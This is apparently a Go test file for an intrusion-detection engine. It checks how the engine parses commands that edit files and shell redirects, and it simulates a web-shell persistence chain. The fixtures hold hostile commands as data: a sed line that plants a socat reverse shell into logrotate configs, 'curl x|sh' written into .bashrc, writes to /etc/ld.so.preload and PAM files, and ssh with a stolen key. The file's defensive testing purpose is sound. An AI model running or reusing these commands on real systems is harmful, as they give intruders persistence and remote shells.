package detect

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

func TestEditedFiles(t *testing.T) {
	tests := []struct {
		args []string
		want []string
	}{
		// the sed script of press-ssti holds "|" and ">": the argv is exact
		{[]string{"sed", "-i", `/press-logship/a\        /usr/bin/setsid -f /usr/bin/socat OPENSSL-CONNECT:127.0.0.1:8443,verify=0 EXEC:/bin/sh,stderr >/dev/null 2>&1 || true`, "/etc/logrotate.d/press"}, []string{"/etc/logrotate.d/press"}},
		{[]string{"sed", "-i.bak", "-e", "s/a/b/", "x", "y"}, []string{"x", "y"}},
		{[]string{"sed", "-Ei", "1i curl x|sh", "/home/a/.bashrc"}, []string{"/home/a/.bashrc"}},
		{[]string{"sed", "--in-place=.orig", "s/x/y/", "/etc/cron.d/job"}, []string{"/etc/cron.d/job"}},
		{[]string{"sed", "-n", "p", "/etc/cron.d/job"}, nil},                  // not in place: a read
		{[]string{"sed", "-i", "/OPENSSL-CONNECT/d", "/etc/x"}, nil},          // deletes only
		{[]string{"sed", "-i", "3d;/^#/d", "/etc/x"}, nil},                    // deletes only
		{[]string{"sed", "-i", "/a/d;$a evil", "/etc/x"}, []string{"/etc/x"}}, // and appends
		{[]string{"tee", "-a", "/root/.bashrc", "/tmp/x"}, []string{"/root/.bashrc", "/tmp/x"}},
		{[]string{"cp", "-f", "/tmp/job", "/etc/cron.d/"}, []string{"/etc/cron.d/"}},
		{[]string{"cp", "-t", "/etc/cron.d", "/tmp/job"}, []string{"/etc/cron.d"}},
		{[]string{"install", "-m", "0644", "unit", "/etc/systemd/system/x.service"}, []string{"/etc/systemd/system/x.service"}},
		// install -d makes folders (plotbook-noticepreview's root hook), -D a file with its folders
		{[]string{"install", "-d", "-m", "700", "/usr/local/lib/sysstat"}, nil},
		{[]string{"install", "-dm", "700", "/usr/local/lib/sysstat"}, nil},
		{[]string{"install", "--directory", "/usr/local/lib/sysstat"}, nil},
		{[]string{"install", "-Dm", "755", "a", "/usr/local/lib/x/a"}, []string{"/usr/local/lib/x/a"}},
		{[]string{"ln", "-sf", "/etc/systemd/system/a.service", "/etc/systemd/system/multi-user.target.wants/a.service"}, []string{"/etc/systemd/system/multi-user.target.wants/a.service"}},
		{[]string{"dd", "if=/tmp/so", "of=/etc/ld.so.preload"}, []string{"/etc/ld.so.preload"}},
		{[]string{"perl", "-pi", "-e", "s/a/b/", "/etc/pam.d/sshd"}, []string{"/etc/pam.d/sshd"}},
		{[]string{"perl", "-e", "print 1", "/etc/pam.d/sshd"}, nil},
		{[]string{"perl", "-i.bak", "-pe", "s/a/b/", "-e", "s/c/d/", "/etc/pam.d/sshd", "/etc/pam.d/su"}, []string{"/etc/pam.d/sshd", "/etc/pam.d/su"}},
		{[]string{"perl", "-pi", "/tmp/fix.pl", "/etc/crontab"}, []string{"/etc/crontab"}},
		{[]string{"perl", "-F/i/", "-lane", "print $F[0]", "/etc/passwd"}, nil},          // a split pattern, no -i
		{[]string{"perl", "-lpi", "-e", "s/a/b/", "/etc/hosts"}, []string{"/etc/hosts"}}, // -l takes digits only
		{[]string{"perl", "-0777", "-pi", "-e", "s/a/b/", "/etc/hosts"}, []string{"/etc/hosts"}},
		// exiftool's options are the script's: -overwrite_original is no -i
		{[]string{"/usr/bin/perl", "-w", "/usr/bin/exiftool", "-overwrite_original", "-all=", "/var/www/html/img/a.jpg"}, nil},
		{[]string{"cat", "/etc/cron.d/job"}, nil},
		{[]string{"sed"}, nil},
	}
	for _, tt := range tests {
		if got := editedFiles("/usr/bin/"+tt.args[0], tt.args); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("editedFiles(%q) = %q, want %q", strings.Join(tt.args, " "), got, tt.want)
		}
	}
	if p := editedPaths("/usr/bin/tee", []string{"tee", "-a", ".profile"}, "/home/svc"); len(p) != 1 || p[0] != "/home/svc/.profile" || !PersistencePlace(p[0]) {
		t.Errorf("a relative file is taken in the process's folder: %q", p)
	}
}

// FuzzEditedFiles: the argv an intruder writes never panics the reader
// and never yields more than maxEdited files.
func FuzzEditedFiles(f *testing.F) {
	f.Add("sed\x00-i\x00/a/d\x00/etc/x")
	f.Add("sed\x00-ie\x00\x00")
	f.Add("cp\x00-t")
	f.Add("perl\x00-pie\x00")
	f.Fuzz(func(t *testing.T, argv string) {
		args := strings.Split(argv, "\x00")
		if got := editedFiles("/usr/bin/"+args[0], args); len(got) > maxEdited {
			t.Fatalf("%d files", len(got))
		}
	})
}

// TestCallbackOpensChannel: a line a web shell's root job adds to a
// logrotate file names where a socat shell will connect; when cron's
// logrotate fires it, the connect is the backdoor calling back and what
// runs on that socket is the intruder's, with no web server above it
// (press-ssti).
func TestCallbackOpensChannel(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(10, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm")
	edit := []string{"sed", "-i", `/postrotate/a\ /usr/bin/setsid -f /usr/bin/socat OPENSSL-CONNECT:203.0.113.9:8443,verify=0 EXEC:/bin/sh || true`, "/etc/logrotate.d/app"}
	fs := e.Observe(s.exec(20, 10, 33, "www-data", "/var/www/html", "/usr/bin/sed", edit...), s.tree)
	if f := has(fs, "web-persistence-edit-command"); f == nil || f.Stage != StagePersistence {
		t.Fatalf("the edit of the logrotate file: %v", ids(fs))
	}
	s.exec(30, 1, 0, "root", "/", "/usr/sbin/cron", "cron")
	s.exec(60, 30, 0, "root", "/", "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf")
	s.exec(61, 60, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "postrotate script")
	s.exec(62, 61, 0, "root", "/", "/usr/bin/socat", "socat", "OPENSSL-CONNECT:203.0.113.9:8443,verify=0", "EXEC:/bin/sh")
	fs = e.Observe(s.connect(62, 61, 0, "/usr/bin/socat", "203.0.113.9", 8443), s.tree)
	if f := has(fs, "backdoor-callback"); f == nil || f.Title != "Planted Backdoor Calls Back" {
		t.Fatalf("the callback, fired by logrotate: %v", fs)
	}
	s.exec(63, 62, 0, "root", "/", "/usr/bin/dash", "/bin/sh")
	fs = e.Observe(s.exec(64, 63, 0, "root", "/", "/usr/bin/ssh", "ssh", "-i", "/home/app/.ssh/id_release", "deploy@127.0.0.1", "id"), s.tree)
	if f := has(fs, "lateral-remote-access-from-web"); f == nil || f.Stage != StageLateralMovement {
		t.Errorf("ssh in the callback's channel: %v", ids(fs))
	}
	// the same socat started by an administrator to an address no plant
	// names opens no channel
	s.exec(70, 1, 0, "root", "/", "/usr/bin/socat", "socat", "TCP:198.51.100.4:5000", "EXEC:/bin/cat")
	e.Observe(s.connect(70, 1, 0, "/usr/bin/socat", "198.51.100.4", 5000), s.tree)
	s.exec(71, 70, 0, "root", "/", "/usr/bin/dash", "/bin/sh")
	if fs := e.Observe(s.exec(72, 71, 0, "root", "/", "/usr/bin/ssh", "ssh", "deploy@127.0.0.1", "id"), s.tree); has(fs, "lateral-remote-access-from-web") != nil {
		t.Errorf("a root ssh outside any channel: %v", ids(fs))
	}
}

func TestShellRedirects(t *testing.T) {
	for _, c := range []struct {
		script string
		want   []string
	}{
		{"echo aGk= | base64 -d > /srv/kb/venv/lib/python3.11/site-packages/x.pth; touch -r a b", []string{"/srv/kb/venv/lib/python3.11/site-packages/x.pth"}},
		{"echo x >> ~/.bashrc", []string{"~/.bashrc"}},
		{"cmd >/tmp/out 2>&1", []string{"/tmp/out"}},
		{"cmd 2>/tmp/err >&2", []string{"/tmp/err"}},
		{"cmd &> '/tmp/a b'", []string{"/tmp/a b"}},
		{`cmd >| "/etc/cron.d/x"`, []string{"/etc/cron.d/x"}},
		{"cmd > /dev/null", nil},
		{"diff <(a) >(b)", nil},
		// a redirection inside quotes is another shell's (find -exec sh -c '…')
		{`sudo find . -exec /bin/sh -c 'echo x > /etc/cron.d/y' \;`, nil},
		{`echo "a > b" > /tmp/c`, []string{"/tmp/c"}},
		{`echo a\> b`, nil},
		{"echo x >", nil},
		{"a>b>c", []string{"b", "c"}},
	} {
		if got := shellRedirects(c.script); !slices.Equal(got, c.want) {
			t.Errorf("shellRedirects(%q) = %q, want %q", c.script, got, c.want)
		}
	}
	// the shell's own exec carries them to EditedFile
	got := editedPaths("/usr/bin/dash", []string{"/bin/sh", "-c", "echo x > y.pth"}, "/opt/v/lib/python3.11/site-packages")
	if want := []string{"/opt/v/lib/python3.11/site-packages/y.pth"}; !slices.Equal(got, want) {
		t.Errorf("editedPaths = %q, want %q", got, want)
	}
}

func FuzzShellRedirects(f *testing.F) {
	for _, s := range []string{"a > b", `"'\`, "x >> 'y", `a\`, "> >& >( >|"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := shellRedirects(s)
		if len(got) > maxEdited {
			t.Fatalf("%d files, bound %d", len(got), maxEdited)
		}
		for _, w := range got {
			if w == "" || strings.HasPrefix(w, "/dev/") {
				t.Fatalf("%q: target %q", s, w)
			}
		}
	})
}
